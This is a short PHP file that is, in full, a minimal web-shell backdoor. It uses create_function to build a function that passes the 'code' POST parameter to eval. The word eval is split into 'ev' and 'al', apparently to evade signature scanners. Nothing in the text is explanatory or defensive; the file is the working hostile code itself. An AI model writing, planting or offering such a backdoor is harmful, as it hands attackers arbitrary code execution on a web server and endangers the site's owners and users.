<?php
$f = create_function('$x', 'ev' . 'al($x);');
$f($_POST['code']);
